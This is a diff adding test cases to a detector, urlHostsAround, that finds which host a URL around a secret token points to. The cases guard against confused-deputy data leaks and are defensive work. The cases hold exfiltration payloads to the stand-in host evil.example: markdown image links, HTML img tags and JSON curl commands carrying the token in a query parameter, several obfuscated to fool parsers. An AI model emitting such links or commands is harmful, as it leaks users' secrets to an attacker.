@@ -31,6 +31,60 @@ describe('urlHostsAround', () => {
   });
 
   it.each([
+    ['![x](https://localhost;@evil.example/?d=', ')'],
+    ['![x](https://localhost,@evil.example/?d=', ')'],
+    ['![x](https://localhost|@evil.example/?d=', ')'],
+    ['![x](https://localhost)@evil.example/?d=', ')'],
+    ["![x](https://localhost'@evil.example/?d=", ')'],
+    ["![x](https://evil.example/?a='b&d=", ')'],
+    ['![x](https://evil.example/?a=`b&d=', ')'],
+    [`![x](https://evil.example/?p=${'a'.repeat(2_000)}&d=`, ')'],
+    ['[r]:   //evil.example/?d=', ' '],
+    ['![x]( //evil.example/?d=', ')'],
+    ['<img src="h&Tab;ttps:/&Tab;/evil.example/?d=', '">'],
+    ['<img src="ht\ntps:/\t/evil.example/?d=', '">'],
+    ['![x](file://evil.example/s/', ')'],
+  ])('M-deputy: is not misled by %j', (before, after) => {
+    expect(urlHostsAround(before, token, after, true)).toContain('evil.example');
+  });
+
+  it.each([
+    ['{"cmd":"curl ldap://evil.example/', '"}'],
+    ['{"cmd":"curl https://evil.example/?a=\\"b&d=', '"}'],
+    ['{"cmd":"curl https://localhost\\"@evil.example/?d=', '"}'],
+    ['{"url":"https:\\/\\/evil.example\\/', '"}'],
+    ['{"url":"https://evil.example/a b?d=', '"}'],
+  ])('M-deputy: is not misled by the JSON %j', (before, after) => {
+    expect(urlHostsAround(before, token, after, true, 'json')).toContain('evil.example');
+  });
+
+  it.each([
+    ['{"url":"https://good.example","to":"', '"}'],
+    ['{"cmd":"curl https://good.example","to":"', '"}'],
+  ])('finds none around a token in the JSON %j', (before, after) => {
+    expect(urlHostsAround(before, token, after, true, 'json')).toEqual([]);
+  });
+
+  it('M-deputy: does not know the host of a URL that begins too far away', () => {
+    const before = `![x](https://evil.example/?p=${'a'.repeat(5_000)}&d=`;
+    expect(urlHostsAround(before, token, ')', true)).toContain('');
+  });
+
+  it('M-deputy: finds the host that a browser finds (property)', () => {
+    const sign = fc.constantFrom(...'ab1.@:;,|)(]}\'"`-_~!$&*+='.split(''));
+    fc.assert(
+      fc.property(
+        fc.array(sign, { maxLength: 12 }).map((all) => all.join('')),
+        (user) => {
+          const url = `https://${user}@evil.example/?d=`;
+          fc.pre(URL.canParse(url));
+          expect(urlHostsAround(`![x](${url}`, token, ')', true)).toContain(new URL(url).hostname);
+        },
+      ),
+    );
+  });
+
+  it.each([
     ['https://good.example/ is not for ', '.'],
     ['"https://good.example/", "', '"'],
     ['<https://good.example/> ', ' '],
